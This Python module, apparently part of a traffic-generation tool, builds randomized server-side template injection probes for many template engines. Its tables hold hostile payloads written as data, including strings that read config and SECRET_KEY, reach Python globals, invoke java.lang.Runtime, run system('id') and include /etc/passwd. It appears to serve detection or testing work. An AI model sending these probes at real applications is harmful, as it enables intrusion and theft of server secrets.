"""Template injection in short: arithmetic in each engine's brackets, and the names that a probe
asks for (after PortSwigger's decision tree of template engines)."""

import random

from traffic.grammars.attacks.pieces import Grammar, Symbols, among_words


def _product(rng: random.Random) -> str:
    least, most = rng.choice(((7, 7), (2, 9), (2, 99), (100, 9999)))
    left, right = rng.randint(least, most), str(rng.randint(least, most))
    sign = rng.choice(("*", "*", "*", "*", " * ", "+", "-", "/", "%"))
    return f"{left}{sign}{rng.choice((right, right, repr(right)))}"


# Tables: as many alternatives to a line as fit.
# fmt: off
_SYMBOLS: Symbols = {
    "m": _product,
    "l": (
        "{{", "{{", "{{ ", "${", "${", "#{", "<%= ", "<%=", "@(", "${{", "*{", "~{", "[[${", "{",
        "%{", "{{=", "{%print ", "#{ ", "$(", "{{{", "<% ", "@{", "{#", "{@", "[=", "%(", "$!{",
        "{php}echo ",
    ),
    "pair": (
        "{{‹x›}}", "{{ ‹x› }}", "${‹x›}", "#{‹x›}", "<%= ‹x› %>", "<%=‹x›%>", "@(‹x›)", "${{‹x›}}",
        "*{‹x›}", "[[${‹x›}]]", "{‹x›}", "%{‹x›}", "{{=‹x›}}", "{% print ‹x› %}", "$(‹x›)",
        "{{{‹x›}}}", "<% ‹x› %>", "@{‹x›}", "{%= ‹x› %}", "[=‹x›]", "__${‹x›}__::.x",
        "#set($x=‹x›)$x",
        "{php}echo ‹x›;{/php}", "{math equation='‹x›'}", "#{‹x›}#", "{{-‹x›-}}", "{$‹x›}", "~{‹x›}",
        "<#assign x=‹x›>${x}", "{@math key=‹x›/}", "T(‹x›)", "{{:‹x›}}", "<%- ‹x› %>", "@{‹x›}@",
        "{%raw ‹x›%}",
    ),
    "x": ("‹m›", "‹m›", "‹m›", "‹m›"),
    "g": (
        "config", "config.items()", "self", "request", "request.application", "settings.SECRET_KEY",
        "self.__dict__", "_self", "_self.env", "app.request", "dump(app)", "''.__class__",
        "().__class__.__base__", "[].__class__", "request.environ", "url_for.__globals__",
        "cycler.__init__", "lipsum.__globals__",
        "get_flashed_messages.__globals__", "constructor.constructor('‹abc›')()",
        "$on.constructor('alert(‹n›)')()", "this", "this.constructor", "'‹abc›'.toUpperCase()",
        "'‹abc›'.constructor", "''.sub.call.call({}[‹d›],‹n›)", "‹id›.__class__",
        "‹id›.constructor.name", "\"‹abc›\".class", "7.class", "‹id›.getClass()",
        "''.getClass().forName('java.lang.‹Runtime¦System¦Math›')", "T(java.lang.‹Runtime¦System›)",
        "class.getResource('‹id›')", "application.‹id›.getClass()", "system('id')", "`id`",
        "`‹id›`", "global.process", "global.process.env", "range.constructor('return ‹n›')()",
        "joiner.__init__", "namespace.__init__", "debug().__class__",
        "config.__class__.__init__", "handler.settings", "‹id›|attr('__class__')", "phpversion()",
        "smarty.version", "$smarty.version", "app.config.‹id›.__class__", "g.pop",
        "request|attr('application')", "include('/etc/‹passwd¦‹id››')", "object.constructor",
        "Object.prototype", "‹id›.__proto__",
    ),
    "gpair": (
        "{{‹g›}}", "{{ ‹g› }}", "${‹g›}", "#{‹g›}", "<%= ‹g› %>", "{% print(‹g›) %}", "{{‹g›}}",
        "@(‹g›)", "{{{‹g›}}}", "{‹g›}", "*{‹g›}", "%{‹g›}", "[[${‹g›}]]", "{{{{‹g›}}}}",
    ),
}
_GRAMMAR = Grammar(_SYMBOLS, finish=among_words(0.25, (" ", "", "")))

RULES = _GRAMMAR.rules(
    arithmetic=(
        "‹pair›", "‹pair›", "‹rnd›‹pair›‹rnd›", "‹pair›‹pair›", "'‹pair›", '"‹pair›"', "‹n›‹pair›",
    ),
    object_named=("‹gpair›", "‹gpair›", "‹gpair›‹gpair›", "‹rnd›‹gpair›", "‹gpair›‹pair›"),
    error_probe=(
        "${{<%[%'\"}}%\\‹abc?›.‹n›", "{{‹abc›‹'¦\"›}}‹pair›", "<%='‹abc›'‹m›%>", "{{‹m›", "${‹m›",
        "#{‹m›", "}}{{‹m›}}", "}${‹m›}", "%>‹rnd›<%=‹m›%>", "'}}{{‹m›}}{{'",
        "{{'‹rnd›'.concat('‹rnd›')}}", "{{‹n›/0}}", "${‹n›/0}", "<%= ‹n›/0 %>",
        "{{‹rnd›|‹rnd›}}{{‹m›}}", "{%‹abc›%}‹pair›", "#{‹n›/0}", "a{{‹rnd›*}}‹m›}}", "*/‹pair›",
        "{{=‹d›}}{{‹m›}}",
    ),
)
